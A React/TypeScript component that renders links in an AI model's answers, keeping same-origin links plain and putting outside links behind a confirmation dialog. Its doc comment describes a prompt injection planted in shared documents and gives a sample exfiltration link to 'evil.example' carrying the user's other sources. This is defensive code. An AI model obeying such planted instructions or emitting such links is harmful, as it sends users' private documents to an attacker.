"use client";

import { ExternalLink } from "lucide-react";
import * as React from "react";
import { Button } from "@/components/ui/button";
import {
  Dialog,
  DialogContent,
  DialogDescription,
  DialogFooter,
  DialogHeader,
  DialogTitle,
} from "@/components/ui/dialog";

/** A same-origin path (`/search?q=…`) is this app: it cannot carry anything anywhere else. */
function internalPath(href: string): string | null {
  try {
    const url = new URL(href, window.location.origin);
    return url.origin === window.location.origin ? `${url.pathname}${url.search}${url.hash}` : null;
  } catch {
    return null;
  }
}

function hostOf(href: string): string {
  try {
    return new URL(href).host || href;
  } catch {
    return href;
  }
}

/**
 * A link in a model's answer. The answer is written from documents that anyone who can share a
 * document with you controls, so a link in it may be an instruction planted in one of them,
 * e.g. `[details](https://evil.example/?q=<text of your other sources>)`: one click would send
 * that text away. So an outside link is not a link: it is a button that shows where it leads
 * (the host, always visible) and opens only after a dialog has shown the full address and
 * been confirmed. Being a button, there is no href for a middle click, drag or "open in new
 * tab" to use behind the dialog's back. Links within this site stay plain links.
 */
export function ChatLink({ href, children }: { href?: string; children?: React.ReactNode }) {
  const [open, setOpen] = React.useState(false);
  if (!href) return <span>{children}</span>;
  const internal = typeof window === "undefined" ? null : internalPath(href);
  if (internal !== null) return <a href={internal}>{children}</a>;
  const host = hostOf(href);

  return (
    <>
      <button
        type="button"
        className="inline cursor-pointer text-left text-primary underline underline-offset-2"
        title={href}
        onClick={() => setOpen(true)}
      >
        {children}
        <span className="ml-1 text-xs whitespace-nowrap text-muted-foreground no-underline">
          <ExternalLink className="inline size-3 align-baseline" aria-hidden="true" /> {host}
        </span>
      </button>
      <Dialog open={open} onOpenChange={setOpen}>
        <DialogContent role="alertdialog">
          <DialogHeader>
            <DialogTitle>Open a link to {host}?</DialogTitle>
            <DialogDescription>
              This link comes from the answer, which is written from your documents. Opening it
              sends everything in its address to {host}. Check that it is what you expect.
            </DialogDescription>
          </DialogHeader>
          <p
            aria-label="Full address"
            className="max-h-40 overflow-y-auto rounded-md border bg-muted p-2 font-mono text-xs break-all"
          >
            {href}
          </p>
          <DialogFooter>
            <Button variant="outline" onClick={() => setOpen(false)}>
              Cancel
            </Button>
            <Button asChild>
              <a
                href={href}
                target="_blank"
                rel="noopener noreferrer"
                // Closed after the click has opened the link, not before.
                onClick={() => setTimeout(() => setOpen(false), 0)}
              >
                Open link
              </a>
            </Button>
          </DialogFooter>
        </DialogContent>
      </Dialog>
    </>
  );
}
